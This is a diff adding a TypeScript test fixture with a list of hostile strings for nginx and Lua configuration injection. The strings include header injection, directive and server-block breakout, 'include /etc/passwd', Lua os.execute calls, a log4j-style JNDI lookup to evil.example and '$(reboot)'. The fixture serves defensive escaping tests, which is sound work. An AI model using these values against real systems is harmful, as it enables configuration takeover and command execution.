@@ -1,0 +1,31 @@
+// Test data shared by the master's API tests and the agent's renderer tests (not used at run time).
+/** Values that would end a string, start a directive, interpolate a variable, open a comment or run Lua. */
+export const HOSTILE_VALUES: readonly string[] = [
+  'a\r\nX-Injected: 1',
+  'a\nreturn 200;',
+  'a\rb',
+  'a\u0000b',
+  'a\tb',
+  'a"b',
+  "a'b",
+  'a{b',
+  'a}b',
+  'a;b',
+  '$host',
+  'a$request_uri',
+  'a#comment',
+  'a\\"b',
+  '`id`',
+  'x; proxy_pass http://evil.example;',
+  '"; return 200 "pwned',
+  "'; return 200 'pwned",
+  '} server { listen 1; } #',
+  'include /etc/passwd;',
+  'content_by_lua_block { os.execute("id") }',
+  "access_by_lua 'ngx.exit(200)';",
+  'set_by_lua $x "return os.getenv(\'HOME\')";',
+  // A log4j-style lookup, built so that it is not a template placeholder here.
+  `${'$'}{jndi:ldap://evil.example/a}`,
+  '$(reboot)',
+  'a\u2028b\u0085',
+];
